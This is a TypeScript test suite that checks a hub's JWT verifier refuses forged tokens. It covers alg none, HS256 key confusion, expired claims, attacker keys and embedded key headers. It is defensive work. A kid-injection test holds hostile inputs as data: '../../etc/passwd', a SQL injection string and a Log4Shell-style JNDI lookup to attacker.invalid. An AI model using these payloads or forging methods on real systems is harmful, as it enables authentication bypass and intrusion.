// SECURITY.md "Tokens (jose)": the negative matrix, run against every kind the hub signs.
import { createPublicKey } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { HubContext } from '../../../api/src/auth/index.js';
import { createEd25519Key, hs256Signer, publicKeySecrets, tamperPayload } from './support/forge-jws.js';
import { codeOf, createTestHub, NOW, toSeconds } from './support/hub-fixture.js';
import { forgeHubToken, HUB_KINDS } from './support/hub-kinds.js';

describe.each(HUB_KINDS)('$name', (kind) => {
  let hub: HubContext;
  const t = toSeconds(NOW);
  const forge = (options: Parameters<typeof forgeHubToken>[3] = {}) => forgeHubToken(hub, kind, NOW, options);
  const verify = (token: unknown, now: Date = NOW) => kind.verify(hub, token, now);
  // Expiry cases exist only for credentials; receipts and checkpoints carry no exp.
  const credentialIt = (name: string, test: () => Promise<void>) => {
    if (kind.credential) it(name, test);
  };

  beforeEach(async () => {
    hub = await createTestHub();
  });

  describe('accepts', () => {
    it('a token issued by its own issue function', async () => {
      await expect(verify(await kind.issue(hub, NOW))).resolves.toBeDefined();
    });

    it('the hand-built valid token the negative cases start from', async () => {
      expect(await codeOf(verify(await forge()))).toBe('RESOLVED');
    });

    it('nbf 9 s ahead (inside the 10 s clock tolerance)', async () => {
      expect(await codeOf(verify(await forge({ payload: { nbf: t + 9 } })))).toBe('RESOLVED');
    });

    it('iat 9 s ahead', async () => {
      expect(await codeOf(verify(await forge({ payload: { iat: t + 9 } })))).toBe('RESOLVED');
    });

    credentialIt('9 s after exp', async () => {
      const token = await forge({ payload: { iat: t - 100, exp: t - 9 } });
      expect(await codeOf(verify(token))).toBe('RESOLVED');
    });
  });

  if (!kind.credential) {
    it('needs no exp: evidence stays verifiable years later', async () => {
      const token = await kind.issue(hub, NOW);
      expect(await codeOf(verify(token, new Date(NOW.getTime() + 10 * 365 * 86_400_000)))).toBe('RESOLVED');
    });
  }

  describe('refuses', () => {
    it('alg none', async () => {
      const key = await hub.keys.signingKey();
      const token = await forge({ header: { alg: 'none', kid: key.kid }, signer: 'none' });
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it('alg none with a valid signature left in place', async () => {
      const valid = await forge();
      const unsecured = await forge({ header: { alg: 'none' }, signer: 'none' });
      const token = `${unsecured.slice(0, unsecured.lastIndexOf('.'))}.${valid.split('.')[2]}`;
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it.each(['NONE', 'None', 'ES256', 'RS256', 'Ed25519'])('alg %s', async (alg) => {
      expect(await codeOf(verify(await forge({ header: { alg } })))).toBe('TOKEN_INVALID');
    });

    it('HS256 signed with the hub public key in several encodings (algorithm confusion)', async () => {
      const jwks = await hub.keys.jwks();
      const current = (await hub.keys.signingKey()).kid;
      const publicJwk = jwks.keys.find((key) => key.kid === current);
      expect(publicJwk).toBeDefined();
      const pem = createPublicKey({ key: { ...publicJwk }, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
      const secrets: Array<[string, Buffer | string]> = [['SPKI PEM', pem], ...publicKeySecrets({ ...publicJwk })];
      for (const [, secret] of secrets) {
        const token = await forge({ header: { alg: 'HS256' }, signer: hs256Signer(secret) });
        expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
      }
    });

    credentialIt('an expired token', async () => {
      const token = await forge({ payload: { iat: t - 400, exp: t - 60 } });
      expect(await codeOf(verify(token))).toBe('TOKEN_EXPIRED');
    });

    credentialIt('11 s after exp (just outside the tolerance)', async () => {
      const token = await forge({ payload: { iat: t - 100, exp: t - 11 } });
      expect(await codeOf(verify(token))).toBe('TOKEN_EXPIRED');
    });

    credentialIt('an iat older than the kind allows, even with a far exp', async () => {
      const token = await forge({ payload: { iat: t - 3600, exp: t + 3600 } });
      expect(await codeOf(verify(token))).toBe('TOKEN_EXPIRED');
    });

    credentialIt('exp missing', async () => {
      expect(await codeOf(verify(await forge({ payload: { exp: undefined } })))).toBe('TOKEN_MISSING_CLAIM');
    });

    credentialIt('exp that is not a number', async () => {
      expect(await codeOf(verify(await forge({ payload: { exp: `${t + 60}` } })))).toBe('TOKEN_INVALID');
    });

    it('iat missing', async () => {
      expect(await codeOf(verify(await forge({ payload: { iat: undefined } })))).toBe('TOKEN_MISSING_CLAIM');
    });

    it('a wrong aud', async () => {
      const token = await forge({ payload: { aud: 'https://elsewhere.example.invalid/graphql' } });
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it('aud missing', async () => {
      expect(await codeOf(verify(await forge({ payload: { aud: undefined } })))).toBe('TOKEN_MISSING_CLAIM');
    });

    it('a wrong iss', async () => {
      const token = await forge({ payload: { iss: 'https://lupa.attacker.invalid' } });
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it('iss missing', async () => {
      expect(await codeOf(verify(await forge({ payload: { iss: undefined } })))).toBe('TOKEN_MISSING_CLAIM');
    });

    // Every other kind's typ, and near misses; the kind's own typ is left out of the list
    // rather than skipped inside the test, so no generated case runs without an assertion.
    it.each(
      ['JWT', 'jwt', 'application/jwt', 'at+jwt-x', ...HUB_KINDS.map((other) => other.typ)].filter(
        (typ) => typ !== kind.typ,
      ),
    )('typ %s when it is not the kind’s own', async (typ) => {
      expect(await codeOf(verify(await forge({ header: { typ } })))).toBe('TOKEN_WRONG_KIND');
    });

    it('typ missing', async () => {
      expect(await codeOf(verify(await forge({ header: { typ: undefined } })))).toBe('TOKEN_WRONG_KIND');
    });

    it('nbf in the future', async () => {
      expect(await codeOf(verify(await forge({ payload: { nbf: t + 60 } })))).toBe('TOKEN_NOT_YET_VALID');
    });

    it('nbf 11 s ahead (just outside the tolerance)', async () => {
      expect(await codeOf(verify(await forge({ payload: { nbf: t + 11 } })))).toBe('TOKEN_NOT_YET_VALID');
    });

    it('iat in the future', async () => {
      const token = await forge({ payload: { iat: t + 60, ...(kind.credential ? { exp: t + 180 } : {}) } });
      expect(await codeOf(verify(token))).toBe('TOKEN_NOT_YET_VALID');
    });

    it('an unknown kid (an attacker’s own key)', async () => {
      const attacker = createEd25519Key();
      const token = await forge({ header: { kid: attacker.kid }, signer: attacker.signer });
      expect(await codeOf(verify(token))).toBe('TOKEN_UNKNOWN_KEY');
    });

    it('no kid at all', async () => {
      expect(await codeOf(verify(await forge({ header: { kid: undefined } })))).toBe('TOKEN_UNKNOWN_KEY');
    });

    it.each([
      '../../etc/passwd',
      "' OR 1=1 --",
      '../../../../../../dev/null',
      '%2e%2e%2fkeys.json',
      'keys',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literal on purpose
      '${jndi:ldap://attacker.invalid/a}',
      `${'A'.repeat(42)}\u0000`,
      'A'.repeat(10_000),
    ])('kid injection %#', async (kid) => {
      const token = await forge({ header: { kid } });
      expect(['TOKEN_UNKNOWN_KEY', 'TOKEN_INVALID']).toContain(await codeOf(verify(token)));
    });

    it.each([[42], [null], [{ $ne: null }], [['a', 'b']]])('a non-string kid %j', async (kid) => {
      expect(await codeOf(verify(await forge({ header: { kid } })))).toBe('TOKEN_UNKNOWN_KEY');
    });

    describe('headers that try to bring their own key', () => {
      afterEach(() => {
        vi.restoreAllMocks();
      });

      it('an embedded jwk with the attacker’s key and kid', async () => {
        const attacker = createEd25519Key();
        const token = await forge({ header: { kid: attacker.kid, jwk: attacker.publicJwk }, signer: attacker.signer });
        expect(await codeOf(verify(token))).toBe('TOKEN_UNKNOWN_KEY');
      });

      it('an embedded jwk with the attacker’s key under the hub’s kid', async () => {
        const attacker = createEd25519Key();
        const token = await forge({ header: { jwk: attacker.publicJwk }, signer: attacker.signer });
        expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
      });

      it.each(['jku', 'x5u'])('a %s URL, which is never fetched', async (member) => {
        const fetchSpy = vi.spyOn(globalThis, 'fetch');
        const attacker = createEd25519Key();
        for (const kid of [attacker.kid, undefined]) {
          const token = await forge({
            header: { kid, [member]: 'https://attacker.invalid/jwks.json' },
            signer: attacker.signer,
          });
          expect(await codeOf(verify(token))).toBe('TOKEN_UNKNOWN_KEY');
        }
        expect(fetchSpy).not.toHaveBeenCalled();
      });

      it('an x5c chain with the attacker’s certificate stand-in', async () => {
        const attacker = createEd25519Key();
        const der = attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
        const token = await forge({ header: { x5c: [der] }, signer: attacker.signer });
        expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
      });
    });

    it('a tampered payload', async () => {
      const token = tamperPayload(await kind.issue(hub, NOW), (payload) => ({ ...payload, sub: 'someone-else' }));
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it('a tampered header', async () => {
      const token = await kind.issue(hub, NOW);
      const [, payload, signature] = token.split('.');
      const header = Buffer.from(
        JSON.stringify({ alg: 'EdDSA', typ: kind.typ, kid: (await hub.keys.signingKey()).kid, x: 1 }),
      );
      expect(await codeOf(verify(`${header.toString('base64url')}.${payload}.${signature}`))).toBe('TOKEN_INVALID');
    });

    it('a signature taken from another valid token', async () => {
      const first = await kind.issue(hub, NOW);
      const second = await forge({ payload: { jti: 'another-jti' } });
      const spliced = `${second.slice(0, second.lastIndexOf('.'))}.${first.split('.')[2]}`;
      expect(await codeOf(verify(spliced))).toBe('TOKEN_INVALID');
    });

    it('a crit header the hub does not understand', async () => {
      expect(await codeOf(verify(await forge({ header: { crit: ['exp'], exp: 1 } })))).toBe('TOKEN_INVALID');
    });

    it('a token signed by a key that was retired and then purged', async () => {
      const token = await kind.issue(hub, NOW);
      const [retired] = (await hub.keys.rotateKeys({ now: NOW })).filter((key) => key.state === 'retired');
      expect(await codeOf(verify(token))).toBe('RESOLVED');
      await hub.keys.purgeKey(retired?.kid ?? '');
      expect(await codeOf(verify(token))).toBe('TOKEN_UNKNOWN_KEY');
    });

    it.each([
      ['an empty string', ''],
      ['a non-string', 42],
      ['undefined', undefined],
      ['two segments', 'abc.def'],
      ['four segments', 'a.b.c.d'],
      ['padding and spaces', 'eyJh bGc=.e30.'],
      ['a JWE-shaped string', 'a.b.c.d.e'],
      ['JSON serialisation', '{"payload":"e30","signatures":[]}'],
      ['a 10 kB token', `${'a'.repeat(5000)}.${'b'.repeat(5000)}.c`],
    ])('garbage: %s', async (_label, token) => {
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });

    it('a header that is not JSON', async () => {
      const token = `${Buffer.from('not json').toString('base64url')}.${Buffer.from('{}').toString('base64url')}.AA`;
      expect(await codeOf(verify(token))).toBe('TOKEN_INVALID');
    });
  });

  it('never leaks verification internals in the error message', async () => {
    const token = await forge({ payload: { aud: 'https://elsewhere.example.invalid' } });
    const error: unknown = await verify(token).catch((caught: unknown) => caught);
    expect(error).toMatchObject({ name: 'TokenError', code: 'TOKEN_INVALID', message: 'The token is not valid.' });
    expect(String((error as Error).message)).not.toMatch(/aud|claim|jose|elsewhere/i);
  });
});
